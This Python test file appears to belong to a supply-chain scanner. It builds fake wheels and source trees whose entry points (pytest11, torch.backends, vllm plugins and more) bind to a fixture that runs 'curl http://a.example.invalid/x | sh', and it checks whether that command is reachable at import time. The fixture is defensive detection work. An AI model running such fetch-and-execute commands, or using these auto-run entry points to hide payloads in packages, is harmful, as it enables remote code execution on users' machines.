"""What an entry point names may be bound to anything: the tool that finds it calls that."""

import pytest
from program_of import program_of

from ostiary.core.coverage import Reach

GO = "import functools, os\ndef go(*a, **k):\n    os.system('curl http://a.example.invalid/x | sh')\n"
FILES = "setuptools.file_finders"
INFO = "sample-1.0.dist-info/"
WHEEL = {
    f"{INFO}METADATA": "Metadata-Version: 2.1\nName: sample\nVersion: 1.0\n",
    f"{INFO}WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
}
# the group, the target, the package and what follows in its module
BOUND = {
    "blanks": (FILES, "sample.x : go", "", ""),
    "blanks and extras": (FILES, "sample.x : go [more]", "", ""),
    "passed on": (FILES, "sample:go", "from .x import go\n", ""),
    "under another name": (FILES, "sample:run", "from .x import go as run\n", ""),
    "with all others": (FILES, "sample:go", "from .x import *\n", ""),
    "once it is asked for": (
        FILES,
        "sample:go",
        "def __getattr__(name):\n    from . import x\n    return getattr(x, name)\n",
        "",
    ),
    "of a module below": (FILES, "sample:x.go", "import sample.x\n", ""),
    "an alias": (FILES, "sample.x:run", "", "run = go\n"),
    "a lambda": (FILES, "sample.x:run", "", "run = lambda *a: go()\n"),
    "a part": (FILES, "sample.x:run", "", "run = functools.partial(go, 1)\n"),
    "an object": (
        FILES,
        "sample.x:run",
        "",
        "class N:\n    def __call__(self, *a):\n        go()\nrun = N()\n",
    ),
    "a function of a class": (FILES, "sample.x:N.f", "", "class N:\n    f = go\n"),
    "what a class inherits": (
        "opentelemetry_configurator",
        "sample:N",
        "from .x import M\nclass N(M):\n    pass\n",
        "class M:\n    def configure(self):\n        go()\n",
    ),
    "a hook passed on": (
        "pytest11",
        "sample",
        "from .x import pytest_configure\n",
        "def pytest_configure(config):\n    go()\n",
    ),
    "the hooks of an object": (
        "pytest11",
        "sample:plugin",
        "from .x import Q\nplugin = Q()\n",
        "class Q:\n    def pytest_configure(self, config):\n        go()\n",
    ),
    "a module that is started": ("jax_plugins", "sample.x", "", "initialize = go\n"),
    "with torch": ("torch.backends", "sample.x:go", "", ""),
    "with vllm": ("vllm.general_plugins", "sample.x:go", "", ""),
    "with networkx": ("networkx.backend_info", "sample.x:go", "", ""),
}
WAITS = {
    "a command": ("console_scripts", "sample:go", "from .x import go\n", ""),
    "another name": (FILES, "sample:other", "from .x import go\nother = 1\n", ""),
    "no hook": ("pytest11", "sample", "from .x import go\n", ""),
}


def moments(group: str, target: str, package: str, more: str) -> set[Reach]:
    """When the command runs."""
    files = {
        **WHEEL,
        f"{INFO}entry_points.txt": f"[{group}]\nsample = {target}\n",
        "sample/__init__.py": package,
        "sample/x.py": GO + more,
    }
    return {one.reach for one in program_of("wheel", files).flows if "curl" in one.text}


@pytest.mark.parametrize("what", BOUND)
def test_what_the_name_was_bound_to_is_called(what: str) -> None:
    assert moments(*BOUND[what]) == {Reach.IMPORT}


@pytest.mark.parametrize("what", WAITS)
def test_what_no_tool_calls(what: str) -> None:
    assert moments(*WAITS[what]) == {Reach.CALL}


TREES = {
    "the project": (
        "pyproject.toml",
        '[project]\nname = "sample"\n[project.entry-points."torch.backends"]\na = "sample.x:go"\n',
    ),
    "poetry": ("pyproject.toml", '[tool.poetry.plugins."torch.backends"]\na = "sample.x:go"\n'),
    "setup.cfg": ("setup.cfg", "[options.entry_points]\ntorch.backends =\n    a = sample.x : go\n"),
    "setup.py": (
        "setup.py",
        "import setuptools as s\ns.setup(entry_points={'torch.backends': ['a = sample.x:go']})\n",
    ),
    "setup.py with extras": (
        "setup.py",
        "import setuptools as s\ns.setup(entry_points={'torch.backends': ['b=b:b [c]', 'a=sample.x:go']})\n",
    ),
    "a text in setup.py": (
        "setup.py",
        'import setuptools as s\ns.setup(entry_points="""\n[torch.backends]\na = sample.x:go\n""")\n',
    ),
    "an earlier build": ("sample.egg-info/entry_points.txt", "[torch.backends]\na = sample.x:go\n"),
}


@pytest.mark.parametrize("where", TREES)
def test_what_a_source_tree_will_have_called(where: str) -> None:
    path, text = TREES[where]
    for told, found in ((text, Reach.IMPORT), (text.replace("torch.backends", "else"), Reach.CALL)):
        files = {"sample/__init__.py": "", "sample/x.py": GO, path: told}
        flows = program_of("sdist", files).flows
        assert {one.reach for one in flows if "curl" in one.text} == {found}
